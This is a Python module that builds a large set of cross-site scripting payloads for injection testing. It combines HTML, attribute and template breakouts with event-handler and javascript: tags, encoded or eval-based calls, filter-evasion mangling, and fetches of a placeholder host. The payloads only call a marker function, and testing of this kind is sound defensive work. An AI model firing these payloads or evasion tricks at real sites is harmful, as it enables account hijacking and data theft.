"""Script payloads of the usual kinds, put together by a grammar of our own.

A payload is what breaks out of where it stands, a tag with a handler or an address that runs, and
what it would do: call `ran` with its number, or fetch from a host that is not the site's. Every
payload begins with a plain word that holds its number, so that one can see where it came to stand.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator
from itertools import product

ELSEWHERE = "beacon.invalid"
"""The host that payloads fetch from; nobody may be asked for it."""

BREAKS = (
    "", '">', "'>", "`>", '" ', "' ", "</title>", "</script>", "</style>", "</textarea>",
    "</noscript>", "</bdi></p>", "-->", "]]>", "<!--><", "<<", "\\\">", "\x00", "\u2028", "%22%3E",
    "&quot;&gt;", "{{ '' }}", "{% raw %}", "*/", "</svg>", "\ufeff",
)  # fmt: skip
"""What leaves an attribute, an element, a comment or a template."""

DEEDS: tuple[Callable[[int], str], ...] = (
    "ran({})".format,
    "ran`{}`".format,
    "top.ran({})".format,
    "self['ra'+'n']({})".format,
    "\\u0072an({})".format,
    "setTimeout('ran({})')".format,
    "&#114;an&#40;{}&#41;".format,
    lambda number: f"eval(atob('{base64.b64encode(f'ran({number})'.encode()).decode()}'))",
)
"""What is run, each way of writing it."""

TAGS = (
    "<script>{run}</script>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a>",
    "<svg><set attributeName=onmouseover to={run}>",
    "<img src=x onerror={run}>",
    "<img src=x:x onerror='{run}'//",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<video src=x onloadstart={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<div onmouseover={run}>x</div>",
    "<b onpointerenter={run}>x</b>",
    "<a href=# onclick={run}>x</a>",
    "<button onclick={run}>x</button>",
    "<p tabindex=1 onfocusin={run}>x</p>",
    "<p contenteditable onpaste={run}>x</p>",
    "<style>@keyframes k{{}}</style><i style=animation-name:k onanimationstart={run}>x</i>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<button form=f formaction=javascript:{run}>x</button>",
    "<a href=javascript:{run}>x</a>",
    "<a href='jav&#9;ascript:{run}'>x</a>",
    "<a href=\"\x01javascript:{run}\">x</a>",
    "<a href=data:text/html,<script>opener.{run}</script>>x</a>",
    "<math><mtext href=javascript:{run}>x</mtext></math>",
    "<math><mglyph><style><img src=x onerror={run}></style></mglyph></math>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<meta http-equiv=refresh content='0;javascript:{run}'>",
    "<base href=javascript:{run}//>",
    "<isindex action=javascript:{run} type=image>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<template><img src=x onerror={run}></template>",
    "<dialog open onclose={run}><form method=dialog><button>x</button></form></dialog>",
    "<x onclick={run} tabindex=1 id=x>x</x>",
    'x" onmouseover="{run}" y="',
    "x' onfocus='{run}' autofocus='",
    "x onmouseover={run} ",
    "[x](javascript:{run})",
    "[x](<javascript:{run}>)",
    "<javascript:{run}>",
    "[url=javascript:{run}]x[/url]",
    "[img]x\" onerror=\"{run}[/img]",
    "javascript:{run}",
    "&lt;img src=x onerror={run}&gt;",
    "&amp;lt;svg onload={run}&amp;gt;",
    "\\u003csvg onload={run}\\u003e",
    "\uff1csvg onload={run}\uff1e",
    "{{{{ run }}}}<svg onload={run}>",
)  # fmt: skip
"""What runs it, fired by loading, by a handler or by following an address."""

FETCHES = (
    "<img src=//{host}/{number}>",
    "<img srcset='//{host}/{number} 2x'>",
    "<script src=//{host}/{number}></script>",
    "<link rel=stylesheet href=//{host}/{number}>",
    "<link rel=prefetch href=//{host}/{number}>",
    "<iframe src=//{host}/{number}></iframe>",
    "<video poster=//{host}/{number}></video>",
    "<p style=background:url(//{host}/{number})>x</p>",
    "<style>@import '//{host}/{number}';</style>",
    "<meta http-equiv=refresh content='0;//{host}/{number}'>",
    "<table background=//{host}/{number}><td>x</table>",
    "<svg><image href=//{host}/{number} /></svg>",
    "<object data=//{host}/{number}></object>",
    "<input type=image src=//{host}/{number}>",
    "![x](//{host}/{number})",
)
"""What asks another host by being shown."""

MANGLES: tuple[Callable[[str], str], ...] = (
    str,
    lambda text: text.replace("<", "<\t", 1) if text.startswith("<!") else text.swapcase(),
    lambda text: text.replace(" ", "/", 1),
    lambda text: text.replace(" ", "\n", 1),
    lambda text: text.replace("=", " = ", 1),
    lambda text: text.replace(">", " >", 1),
)
"""How the tag is bent so that a filter overlooks it; capitals spare the deed, which is put in
later."""

ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "jav\tascript:{run}",
    "javascript://%0a{run}",
    "javascript:{run}//https://bench.example.org/",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "vbscript:{run}",
    "blob:javascript:{run}",
    "https://bench.example.org/\"onmouseover=\"{run}",
    "https://bench.example.org/'onfocus='{run}' autofocus='",
    "https://bench.example.org/><svg/onload={run}>",
    "https://bench.example.org/`onclick={run}`",
    "https://user:pass@bench.example.org/{run}",
    "//bench.example.org/\"><script>{run}</script>",
    "feed:javascript:{run}",
    "view-source:javascript:{run}",
)  # fmt: skip
"""What stands where an address is expected."""


def mark(number: int) -> str:
    """The plain word a payload begins with."""
    return f"zp{number}z"


def payloads(*, seed: int = 1) -> Iterator[Callable[[int], str]]:
    """Each payload as what it is for a number; in an order drawn by lot, none twice.

    Each fifth fetches, the others run.
    """
    chance = random.Random(seed)
    running = [_tag(*parts) for parts in product(BREAKS, TAGS, DEEDS, MANGLES)]
    fetching = [_fetch(*parts) for parts in product(BREAKS, FETCHES, MANGLES)]
    chance.shuffle(running)
    chance.shuffle(fetching)
    for at, fetches in enumerate(fetching):
        yield from running[at * 4 : at * 4 + 4]
        yield fetches


def address(number: int) -> str:
    """A payload where an address is expected."""
    deed = DEEDS[number // len(ADDRESSES) % len(DEEDS)](number)
    return ADDRESSES[number % len(ADDRESSES)].replace("{run}", deed)


def _tag(
    breaks: str, tag: str, deed: Callable[[int], str], mangle: Callable[[str], str]
) -> Callable[[int], str]:
    bent = mangle(tag.replace("{{", "{").replace("}}", "}").replace("{run}", "\x02"))
    return lambda number: f"{mark(number)}{breaks}{bent.replace(chr(2), deed(number))}"


def _fetch(breaks: str, tag: str, mangle: Callable[[str], str]) -> Callable[[int], str]:
    bent = mangle(tag.replace("{host}/{number}", "\x02"))
    return lambda number: f"{mark(number)}{breaks}{bent.replace(chr(2), f'{ELSEWHERE}/{number}')}"
